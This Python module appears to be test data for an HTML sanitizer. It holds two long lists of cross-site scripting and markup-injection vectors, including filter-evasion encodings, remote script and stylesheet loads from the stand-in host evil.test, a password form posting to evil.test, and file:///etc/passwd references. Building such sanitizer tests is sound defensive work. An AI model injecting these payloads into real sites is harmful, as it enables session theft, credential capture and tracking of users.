"""Markup that runs or fetches: scripts and how they may be written, and every element that has an address or a picture."""

from __future__ import annotations


def lines(block: str) -> list[str]:
    """One vector a line."""
    return [line for line in block.strip().split("\n") if line]


SCRIPTS = lines(
    r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script >alert(1)</script >
<script/x>alert(1)</script>
<script	>alert(1)</script	>
<script src=https://evil.test/x.js></script>
<script src=//evil.test/x.js></script>
<script/src=//evil.test/x.js></script>
<script type=module>alert(1)</script>
<script type=module src=https://evil.test/x.js></script>
<script type=text/vbscript>msgbox 1</script>
<script language=javascript>alert(1)</script>
<script>alert(1)
<script>alert(1)//
<script>alert(1)</script
<script>alert(1)<!--</script>
<script><!--
<script>alert`1`</script>
<script>\u0061lert(1)</script>
<script>window['al'+'ert'](1)</script>
<script>/*</script><script>*/alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>
<<script>alert(1)//<</script>
<script<script>>alert(1)</script>
< script>alert(1)</script>
<script&#32;>alert(1)</script>
<b><script>alert(1)</b></script>
<script charset=utf-7>+ADw-alert(1)</script>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&#0000060script&#0000062alert(1)&#0000060/script&#0000062
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cscript\u003ealert(1)\u003c/script\u003e
<script>alert(1)</script><p>after</p>
<p><script>alert(1)</script></p>
<script nonce=x integrity=y crossorigin>alert(1)</script>
<script type=importmap>{"imports":{"x":"https://evil.test/x.js"}}</script><script type=module>import "x"</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.test/x"]}]}</script>
<script async src=data:text/javascript,alert(1)></script>
<script defer src="data:;base64,YWxlcnQoMSk="></script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<server>alert(1)</server>
<script for=window event=onload>alert(1)</script>
<xml onreadystatechange=alert(1)>x</xml>
"""
)

ELEMENTS = lines(
    r"""
<iframe src=javascript:alert(1)></iframe>
<iframe src="java&#9;script:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
<iframe srcdoc='&#60;svg onload=parent.alert&#40;1&#41;&#62;'></iframe>
<iframe src=https://evil.test/></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>
<iframe src=vbscript:msgbox(1)></iframe>
<iframe name=alert(1) src=https://evil.test/></iframe>
<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src=javascript:alert(1)></frameset>
<frameset><frame src=https://evil.test/></frameset>
<object data=javascript:alert(1)></object>
<object data=https://evil.test/></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"></object>
<object type=text/x-scriptlet data=https://evil.test/></object>
<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>
<object data=x><param name=src value=https://evil.test/></object>
<embed src=javascript:alert(1)>
<embed src=https://evil.test/x.swf allowscriptaccess=always>
<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<applet code=x archive=https://evil.test/x.jar></applet>
<applet codebase=https://evil.test/ code=x>
<base href=https://evil.test/><a href=x>x</a><img srcset=x>
<base href=javascript:/><a href=/alert(1)>x</a>
<base target=_top>
<meta http-equiv=refresh content=0;url=https://evil.test/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0; url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;url='https://evil.test/'">
<META HTTP-EQUIV=Set-Cookie CONTENT="a=<script>alert(1)</script>">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta http-equiv=Content-Type content="text/html; charset=utf-7">
<meta name=referrer content=unsafe-url>
<link rel=stylesheet href=https://evil.test/x.css>
<link rel=stylesheet href=//evil.test/x.css>
<link rel=stylesheet href=file:///etc/passwd>
<link rel=stylesheet href="data:text/css,*{background:url(https://evil.test/)}">
<link rel=import href=https://evil.test/>
<link rel=preload as=script href=https://evil.test/x.js>
<link rel=prefetch href=https://evil.test/>
<link rel=modulepreload href=https://evil.test/x.js>
<link rel=manifest href=https://evil.test/>
<link rel=icon href=https://evil.test/>
<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>
<style>@import url(https://evil.test/x.css);</style>
<style>@import 'https://evil.test/x.css';</style>
<style>@import url(file:///etc/passwd);</style>
<style>@IMPORT/**/"https://evil.test/x.css"</style>
<style>@\69mport "https://evil.test/x.css";</style>
<style>*{background:url(https://evil.test/)}</style>
<style>body{background:url("javascript:alert(1)")}</style>
<style>p{-moz-binding:url(https://evil.test/x.xml#x)}</style><p>x</p>
<style>p{behavior:url(https://evil.test/x.htc)}</style><p>x</p>
<style>p{width:expression(alert(1))}</style><p>x</p>
<style>@font-face{font-family:x;src:url(https://evil.test/)}p{font-family:x}</style><p>x</p>
<style>li{list-style-image:url(https://evil.test/)}</style><ul><li>x</ul>
<style>p::after{content:url(https://evil.test/)}</style><p>x</p>
<style media=all type=text/css>body{cursor:url(https://evil.test/),auto;background:image-set("https://evil.test/" 1x)}</style>
<style>body{display:none}
<style></style><style>@import//evil.test</style>
<form action=javascript:alert(1)><button>x</button></form>
<form action=https://evil.test/><input name=x><button>x</button></form>
<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>
<form><button formaction=javascript:alert(1)>x</button></form>
<form><input type=submit formaction=javascript:alert(1) value=x></form>
<form><input type=image formaction=javascript:alert(1) src=x></form>
<form><textarea name=x>y
<form action="https://evil.test/" method=post><input type=password name=p></form>
<form><isindex action=javascript:alert(1) type=image></form>
<input type=image src=https://evil.test/>
<button formaction=https://evil.test/>x</button>
<select><option>x<script>alert(1)</script></select>
<textarea><img src=x onerror=alert(1)></textarea><img src=x onerror=alert(1)>
<video poster=https://evil.test/ controls></video>
<video src=https://evil.test/ autoplay></video>
<audio src=https://evil.test/ autoplay></audio>
<video><source src=https://evil.test/></video>
<img srcset="https://evil.test/ 1x">
<img src=https://image.test/a.png srcset="https://evil.test/ 2x, https://evil.test/y 1x" sizes=1px>
<picture><source srcset=https://evil.test/><img src=https://image.test/a.png></picture>
<img lowsrc=https://evil.test/ dynsrc=https://evil.test/>
<img src=https://image.test/a.png longdesc=javascript:alert(1)>
<img src=https://image.test/a.png usemap=#m><map name=m><area shape=default href=javascript:alert(1)></map>
<img src=javascript:alert(1)>
<img src=vbscript:msgbox(1)>
<img src="livescript:alert(1)">
<img src="mocha:alert(1)">
<img src=file:///etc/passwd>
<img src="cid:x">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img crossorigin=use-credentials src=blob:https://evil.test/x>
<image src=https://image.test/a.png srcset=https://evil.test/>
<body background=https://evil.test/>
<body background=javascript:alert(1)>
<body style="background:url(https://evil.test/)">
<table background=https://evil.test/><tr><td>x</table>
<table><tr><td background=https://evil.test/>x</table>
<bgsound src=https://evil.test/>
<layer src=https://evil.test/></layer>
<ilayer src=javascript:alert(1)></ilayer>
<xml src=https://evil.test/ id=x></xml><span datasrc=#x datafld=y dataformatas=html></span>
<a href=javascript:alert(1)>x</a>
<a href=https://image.test/ ping=https://evil.test/>x</a>
<a href="javascript:alert(1)" target=_blank rel=opener>x</a>
<a href=https://image.test/ attributionsrc=https://evil.test/>x</a>
<area href=javascript:alert(1)>
<a download href="data:text/html,<script>alert(1)</script>">x</a>
<q cite=javascript:alert(1)>x</q>
<blockquote cite=javascript:alert(1)>x</blockquote>
<del cite=https://evil.test/>x</del>
<a href=https://image.test/ style="background:url(https://evil.test/)">x</a>
<html manifest=https://evil.test/>
<head profile=https://evil.test/>
<html onmouseover=alert(1)>
<xss onclick=alert(1)>x</xss>
<x-element onclick=alert(1)>x</x-element>
<p is=x-element onclick=alert(1)>x</p>
<slot name=x onclick=alert(1)>x</slot>
<template><script>alert(1)</script></template>
<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>
<div><template shadowrootmode=closed><style>@import url(https://evil.test/)</style></template></div>
<template><img src=x onerror=alert(1)></template>
<dialog open><form method=dialog><button formaction=javascript:alert(1)>x</button></form></dialog>
<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>y</p>
<menu type=context onshow=alert(1)><command onclick=alert(1)></menu>
<canvas onclick=alert(1)>x</canvas>
<output onclick=alert(1)>x</output>
<fieldset disabled><input autofocus onfocus=alert(1)></fieldset><legend onclick=alert(1)>x</legend>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<xmp><img src=x onerror=alert(1)></xmp><img src=x onerror=alert(1)>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<listing><img src=x onerror=alert(1)></listing>
<nextid n=x onclick=alert(1)>
<rt><rp><img src=x onerror=alert(1)></rp></rt>
"""
)
